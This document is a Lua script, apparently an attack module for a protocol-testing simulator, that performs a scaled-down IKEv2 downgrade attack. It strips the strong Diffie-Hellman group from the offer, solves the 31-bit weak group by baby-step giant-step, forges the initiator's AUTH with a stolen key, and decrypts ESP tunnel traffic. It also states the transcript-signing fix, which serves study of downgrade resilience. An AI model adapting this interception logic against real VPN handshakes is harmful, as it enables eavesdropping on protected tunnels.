-- Each side's AUTH covers what it sent itself, and not what it received (RFC 7296, 2.15). So an adversary can take the strong group out of the initiator's
-- offer: the responder signs its own answer, and the initiator sees nothing wrong. Only the initiator's AUTH would tell - to the responder; and who
-- has the initiator's key, and solves the weak group while IKE_AUTH waits, writes that one anew. SCALED DOWN: the weak group has 31 bits.
attack = {
  id = "A01", name = "transcript-downgrade",
  about = "Takes the strong group out of IKE_SA_INIT, solves the weak one, and forges the initiator's AUTH with its stolen key (31 bits: scaled down)",
  position = "on-path",
  needs = "a weak group that both sides still accept, solved in time (SCALED DOWN: 31 bits); the initiator's private key",
  source = "draft-ietf-ipsecme-ikev2-downgrade-prevention; Bhargavan and others, Downgrade Resilience in Key-Exchange Protocols (2016); catalogue A01",
  shows = {
    vulnerable = "both sides would have taken Curve25519, and end with the weak group: each believes the other, and the adversary reads the tunnel",
    hardened = "AUTH of the full transcript: the responder signs the request as it received it, the initiator compares, and refuses",
  },
  scenarios = { vulnerable = "transcript-downgrade" },
}

-- Parameters: initiator = "gw-a", strong = 31 (the group to take out), weak = 1031
local initiator, strong, weak = "gw-a", 31, 1031
local prime, m = 2147481143, 32768
local table_of, made, value = {}, 0, 1
local s = {}                 -- the handshake
local esp_i, esp_r
local read, goal = 0, "read a tunnel whose ends both prefer a strong group"

local function power(base, exponent)
  local result = 1
  while exponent > 0 do
    if exponent % 2 == 1 then result = result * base % prime end
    base, exponent = base * base % prime, exponent // 2
  end
  return result
end
local giant = power(power(2, m), prime - 2)

function on_start(params)
  initiator = params.initiator or initiator
  timer.after("1ms", "precompute")
end

-- The request without the strong group.
local function strip(message)
  for _, proposal in ipairs(find(message, "SA").proposals) do
    local kept = {}
    for _, t in ipairs(proposal.transforms) do
      if not (t.type == 4 and t.id == strong) then kept[#kept + 1] = t end
    end
    proposal.transforms = kept
  end
  find(message, "SA").body = nil
  return ike.encode(message)
end

on({ exchange = "IKE_SA_INIT", response = false, payload = "SA" }, function(p, message)
  if p.from ~= initiator then return end
  s.request, s.ni, s.ke = strip(message), find(message, "Ni/Nr").data, find(message, "KE")
  modify(s.request, "group " .. strong .. " taken out of the offer")
end)

on({ exchange = "IKE_SA_INIT", response = true, payload = "SA" }, function(p, message)
  if s.nr or #s.ke.data ~= 4 then return end
  s.nr, s.suite, s.spi_i, s.spi_r = find(message, "Ni/Nr").data, ike.suite(find(message, "SA").proposals[1]), message.spi_i, message.spi_r
  s.peer, s.at, s.i = bytes.u32(find(message, "KE").data, 1), bytes.u32(s.ke.data, 1), 0
  say("both sides have agreed on group " .. weak .. "; IKE_AUTH will have to wait until it is solved")
  timer.after("1ms", "solve")
end)

on({ exchange = "IKE_AUTH", response = false }, function(p)
  if p.from ~= initiator or not s.nr or s.forged then return end
  drop(s.auth and "a repetition of what is held" or "held until the group is solved")
  s.auth = s.auth or p
  if s.keys then forge() end
end)

-- The initiator's IKE_AUTH, opened, with an AUTH that covers the request the responder saw.
function forge()
  local inner = ike.open(ike.octets(s.auth), s.suite, s.keys)
  local id, auth = find(inner, "IDi"), find(inner, "AUTH")
  learn("identity", id.data, "IKE_AUTH opened", id.data)
  local octets = ike.signed_octets(s.suite.prf, { message = s.request, nonce = s.nr, sk_p = s.keys.sk_pi, id = id.body })
  local signature, scheme, identifier = crypto.sign(held("key:" .. initiator), octets)
  auth.body = ike.auth(14, string.char(#identifier) .. identifier .. signature).body
  esp_i = find(inner, "SA").proposals[1]
  s.forged = true
  inject{ src = s.auth.src, src_port = s.auth.src_port, dst = s.auth.dst, dst_port = s.auth.dst_port, protocol = "IKE", to = s.auth.to,
    payload = ike.seal(inner, s.suite, s.keys), note = "IKE_AUTH with AUTH over the request as the responder saw it (" .. scheme .. ", with the stolen key)" }
end

local function precompute()
  for _ = 1, 8192 do
    table_of[value] = made
    value, made = value * 2 % prime, made + 1
  end
  if made < m then timer.after("20ms", "precompute") end
end

local function solve()
  for _ = 1, 16384 do
    local j = table_of[s.at]
    if j then
      local x = j + m * s.i
      local shared = string.pack(">I4", power(s.peer, x))
      s.keys = ike.keys(s.suite, { ni = s.ni, nr = s.nr, shared = shared, spi_i = s.spi_i, spi_r = s.spi_r })
      ring.ike(s.spi_i, s.suite, s.keys)
      learn("SK_*", "all keys of the IKE SA", "the weak group solved in " .. s.i .. " steps, while the handshake waits", s.keys.sk_d)
      if s.auth then forge() end
      return
    end
    s.at, s.i = s.at * giant % prime, s.i + 1
  end
  progress("steps for this key exchange", s.i, m)
  timer.after("20ms", "solve")
end

function on_timer(label)
  if label == "precompute" then precompute() else solve() end
end

on({ exchange = "IKE_AUTH", response = true }, function(p)
  local inner = s.forged and not esp_r and ring.open(p)
  local sa = inner and find(inner, "SA")
  if not sa then return end
  esp_r = sa.proposals[1]
  local suite = ike.suite(esp_r)
  suite.prf, suite.ke = nil, nil
  local keys = ike.child_keys(s.suite.prf, suite, { sk_d = s.keys.sk_d, ni = s.ni, nr = s.nr })
  ring.esp(bytes.hex(esp_r.spi), suite, keys.encr_i, keys.integ_i)
  ring.esp(bytes.hex(esp_i.spi), suite, keys.encr_r, keys.integ_r)
end)

on({ protocol = "ESP" }, function(p)
  local plain = ring.open(p)
  if not plain then return end
  read = read + 1
  if read == 1 then
    learn("plaintext", "the first packet of the tunnel", "opened with keys of its own making", plain.payload)
    achieved(goal, true, "a packet is read of a tunnel that both ends believe to be sound")
  end
end)

function on_finish()
  if read > 0 then return say(read .. " packets read") end
  achieved(goal, false, s.forged and "AUTH was forged, and no tunnel came of it" or "the peers did not go on with the weak group")
end
